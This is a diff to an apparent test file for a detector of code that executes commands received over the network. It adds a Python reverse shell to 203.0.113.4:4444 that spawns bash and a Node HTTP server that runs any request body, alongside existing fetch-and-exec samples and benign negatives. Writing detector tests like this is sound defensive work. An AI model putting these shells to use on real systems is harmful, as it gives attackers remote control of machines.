@@ -26,6 +26,8 @@ describe('code that runs what it is sent', () => {
     python("import paho.mqtt.client as mqtt, os\ndef on_message(client, userdata, msg):\n    os.system(msg.payload.decode())\nc = mqtt.Client()\nc.on_message = on_message"),
     python("import http.client, os\nc = http.client.HTTPSConnection('example.test')\nc.request('GET', '/x')\nos.popen(c.getresponse().read().decode())"),
     python("import socket\ns = socket.create_connection(('203.0.113.44', 443))\nexec(s.recv(65536))"),
+    python("import socket, os, pty\ns = socket.create_connection(('203.0.113.4', 4444))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')"),
+    node("const http = require('http'), { exec } = require('child_process');\nhttp.createServer((req, res) => { let b = ''; req.on('data', (c) => b += c); req.on('end', () => exec(b, (e, o) => res.end(o))); }).listen(9000, '0.0.0.0');"),
     node("const { exec } = require('child_process');\nconst net = require('net');\nconst socket = net.connect(5389, '203.0.113.44');\nsocket.on('data', (data) => exec(data.toString(), (e, out) => socket.write(out)));"),
     node("const { execSync } = require('child_process');\nfetch('https://example.test/i.sh').then((r) => r.text()).then((t) => execSync(t));"),
     node("const cp = require('child_process');\n(async () => { const res = await fetch('https://example.test/job');\nconst job = await res.json();\ncp.spawnSync('sh', ['-c', job.cmd]); })();"),
@@ -57,6 +59,7 @@ describe('code that runs what it is sent', () => {
     python("import socket, subprocess\ns = socket.create_connection(('localhost', 5432), timeout=2)\ns.recv(8)\nsubprocess.run(['npm', 'test'])"),
     python("import requests, os\nos.system(requests.get('http://localhost:8080/next-command').text)"),
     python("import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 9000))\nsrv.listen()\nc, _ = srv.accept()\nsubprocess.run(c.recv(99).decode(), shell=True)"),
+    python("import socket, subprocess\ns = socket.create_connection(('db.example.com', 5432), timeout=3)\ns.close()\nsubprocess.run(['bash', 'scripts/migrate.sh'])"),
     // Names that mean something else elsewhere.
     python("import requests, subprocess\ndef fetch():\n    data = requests.get('https://example.test').text\n    print(data)\ndef build(data):\n    subprocess.run(data)\nfetch()\nbuild(['make', 'all'])"),
     python("import requests, subprocess\ncmd = 'npm run build'\nsubprocess.run(cmd, shell=True)\nout = requests.post('https://hooks.example.test', json={'ok': True})\nprint(out.text)"),
